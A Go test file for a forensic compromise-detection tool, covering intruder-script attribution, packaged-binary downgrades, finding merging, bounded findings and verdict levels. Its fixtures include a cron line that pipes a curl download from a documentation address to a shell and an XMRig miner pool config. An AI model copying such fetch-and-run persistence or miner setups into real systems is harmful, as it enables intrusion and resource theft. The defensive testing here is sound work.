		{"a script names the intruder", "names_intruder", scene{records: []model.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0), record(t, "file.notable what=script; urls=http://203.0.113.77/a; state=deleted; path=/tmp/a.sh")}}, Medium},
		{"a script names another", "names_intruder", scene{records: []model.Record{failed("203.0.113.77", 640, -60), login("203.0.113.77", "password", 0), record(t, "file.notable what=script; urls=http://203.0.113.78/a; state=deleted; path=/tmp/a.sh")}}, None},
		{"nobody came in", "names_intruder", scene{records: []model.Record{failed("203.0.113.77", 640, -60), record(t, "file.notable what=script; urls=http://203.0.113.77/a; state=deleted; path=/tmp/a.sh")}}, None},
	} {
		t.Run(tt.rule+"/"+tt.name, func(t *testing.T) {
			if got := level(tt.scene.run(t), tt.rule); got != tt.want {
				t.Errorf("level %s, want %s", got, tt.want)
			}
		})
	}
}

// TestAnalysesTested: each analysis that is documented has cases above, and none
// speaks that is not documented.
func TestAnalysesTested(t *testing.T) {
	names := make(map[string]bool)
	for _, i := range Analyses() {
		if names[i.Name] || i.Level == None || i.Title.IsZero() || i.Description.IsZero() || i.FalsePositives.IsZero() || len(i.Techniques) == 0 || i.Phase == "" {
			t.Errorf("%s is there twice, or lacks something", i.Name)
		}
		names[i.Name] = true
		b, err := os.ReadFile(i.Name + ".go")
		if err != nil || !strings.Contains(string(b), fmt.Sprintf("Name: %q,", i.Name)) {
			t.Errorf("%s does not stand in a file of its name: %v", i.Name, err)
		}
	}
	b, err := os.ReadFile("analyses_test.go")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"ran_from_odd_place", "journal_cut", "journal_altered", "acts", "pam_opens", "known_indicator", "changed_within", "site_contradiction", "known_package"} {
		delete(names, name) // they have tests of their own
	}
	for name := range names {
		if !strings.Contains(string(b), fmt.Sprintf("\", %q, scene{", name)) {
			t.Errorf("no case of %s", name)
		}
	}
}

// TestPackaged: what a package installed and nobody changed gives no more than low,
// a packaged miner no more than medium.
func TestPackaged(t *testing.T) {
	const match = "yara.match rule=X; level=critical; technique=T1574.006; file_type=elf; path=/usr/bin/ip"
	for _, tt := range []struct {
		name   string
		rec    model.Record
		want   Level
		change string
	}{
		{"nobody's", record(t, match), Critical, ""},
		{"intact", record(t, match+"; owner=iproute2; package_state=intact"), Low, ""},
		{"changed", record(t, match+"; owner=iproute2; package_state=changed"), Critical, ""},
		{"a packaged miner", record(t, strings.Replace(match, "T1574.006", "T1496.001", 1)+"; owner=xmrig; package_state=intact"), Medium, ""},
		{"deleted", record(t, match+"; state=deleted"), High, ""},
		{"orphan", record(t, match+"; state=orphan"), Critical, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := scene{records: []model.Record{tt.rec}}
			if got := level(s.run(t), "X"); got != tt.want {
				t.Errorf("level %s, want %s", got, tt.want)
			}
		})
	}
}

// TestJoined: what several engines say of one file is one finding, which the
// strongest names; what it may do stays a claim of its own.
func TestJoined(t *testing.T) {
	const path = "; path=/usr/bin/.a"
	s := scene{records: []model.Record{
		record(t, "file.notable what=hidden_elf"+path), record(t, "file.notable what=setuid_unowned"+path),
		record(t, "miner.config pool=203.0.113.77:3333; file_type=elf"+path),
		record(t, "yara.match rule=XMRig_Binary; level=critical; technique=T1496.001; file_type=elf"+path),
	}}
	for i := range s.records {
		s.records[i].Source.Inode = 12
	}
	res := s.run(t)
	if len(res.Findings) != 2 || res.Findings[0].Rule != "XMRig_Binary" || len(res.Findings[0].Records) != 3 || res.Findings[1].Rule != "file_setuid_unowned" {
		t.Errorf("%+v", res.Findings)
	}
}

// TestManyLines: a rule that matches very many lines of one file gives a bounded number
// of findings, and the last says how many lines it stands for.
func TestManyLines(t *testing.T) {
	const lines = 1000
	var s scene
	for i := range lines {
		r := record(t, fmt.Sprintf("cron.job traits=pipe_to_shell; command=curl -s http://203.0.113.7/%d.sh", i))
		r.Source = model.Source{Volume: "p1", Path: "/etc/cron.d/x", Inode: 12, Line: i + 1}
		s.records = append(s.records, r)
	}
	res := s.run(t)
	var more []model.Message
	for _, f := range res.Findings {
		for _, m := range f.Details {
			if m.ID == "finding.more" {
				more = append(more, m)
			}
		}
	}
	want := model.Msg("finding.more", "count", lines-maxPerFile, "listed", maxListed)
	if len(res.Findings) != maxPerFile || len(more) != 1 || !more[0].Equal(want) {
		t.Errorf("%d findings, %v, want %d, %v", len(res.Findings), more, maxPerFile, want)
	}
}

// verdictOf gives the verdict over findings that no rule of the user's made.
func verdictOf(list []model.Finding) model.Verdict {
	c := &collection{}
	for _, f := range list {
		c.findings = append(c.findings, Finding{Finding: f})
	}
	return c.verdict(list)
}

func TestVerdict(t *testing.T) {
	f := func(l Level, path string, minute int) model.Finding {
		return model.Finding{Level: l, Rule: path, Phase: PhasePersistence, When: model.When{Time: noon.Add(time.Duration(minute) * time.Minute)}, Source: model.Source{Volume: "p1", Path: path}}
	}
	as := func(f model.Finding, rule string) model.Finding { f.Rule = rule; return f }
	for _, tt := range []struct {
		name  string
		list  []model.Finding
		state model.VerdictState
		since int // minutes; -1: none
	}{
		{"nothing", nil, NoIndicators, -1},
		{"low", []model.Finding{f(Low, "/a", 0), f(Informational, "/b", 0)}, NoIndicators, -1},
		{"one medium, as honest servers have", []model.Finding{f(Medium, "/a", 5), f(Low, "/b", 0)}, NoIndicators, -1},
		{"two medium of one rule", []model.Finding{f(Medium, "/a", 5), as(f(Medium, "/b", 6), "/a")}, NoIndicators, -1},
		{"two medium about one file", []model.Finding{f(Medium, "/a", 5), as(f(Medium, "/a", 6), "other")}, NoIndicators, -1},
		{"two medium of two kinds", []model.Finding{f(Medium, "/a", 5), f(Medium, "/b", 6)}, Suspicious, 5},
		{"one high", []model.Finding{f(High, "/a", 5), f(Medium, "/b", 0)}, Suspicious, 5},
		{"two high about one file", []model.Finding{f(High, "/a", 5), f(High, "/a", 6)}, Suspicious, 5},
		{"two high about two files", []model.Finding{f(High, "/a", 5), f(High, "/b", 6)}, Compromised, 5},
		{"critical", []model.Finding{f(Critical, "/a", 9), f(High, "/b", 7), f(Medium, "/c", 0)}, Compromised, 7},
	} {
		for i := range tt.list {
			tt.list[i].ID = fmt.Sprint("F-", i)
		}
		v := verdictOf(tt.list)
		if v.State != tt.state || (tt.since < 0) != v.Since.IsZero() || tt.since >= 0 && !v.Since.Time.Equal(noon.Add(time.Duration(tt.since)*time.Minute)) {
			t.Errorf("%s: %+v", tt.name, v)
		}
		if (v.State == NoIndicators) != (len(v.Because) == 0) {
			t.Errorf("%s: because of %v", tt.name, v.Because)
		}
	}
	// A short list: the one that gives the time, and the strongest.
	var many []model.Finding
	for i := range 40 {
		many = append(many, f(Critical, fmt.Sprint("/", i), 100-i))
		many[i].ID = fmt.Sprint("F-", i)
	}
	v := verdictOf(many)
	if len(v.Because) != maxBecause || !slices.Contains(v.Because, "F-39") || !slices.Contains(v.Because, "F-0") {
		t.Errorf("because of %v", v.Because)
	}
}

// TestSpreadWindow compares the window that moves on with a count of each.
func TestSpreadWindow(t *testing.T) {
	var g guesses
	g.addresses = make(map[string]int)
	for i := range 500 {
		g.list = append(g.list, guess{rec: &model.Record{ID: fmt.Sprintf("R-%06d", i)}, at: noon.Add(time.Duration(i*i%977) * time.Minute), count: 1 + i%5, address: fmt.Sprint(i % 17)})
	}
	g.sort()
	for m := 0; m < 1200; m += 7 {
		to := noon.Add(time.Duration(m) * time.Minute)
		from := to.Add(-spreadWindow)
		g.within(from, to)
		count, addresses := 0, make(map[string]bool)
		for _, x := range g.list {
			if !x.at.Before(from) && !x.at.After(to) {
				count += x.count
				addresses[x.address] = true
			}
		}
		if g.count != count || len(g.addresses) != len(addresses) {
			t.Fatalf("at minute %d: %d from %d addresses, want %d from %d", m, g.count, len(g.addresses), count, len(addresses))
		}
	}
}
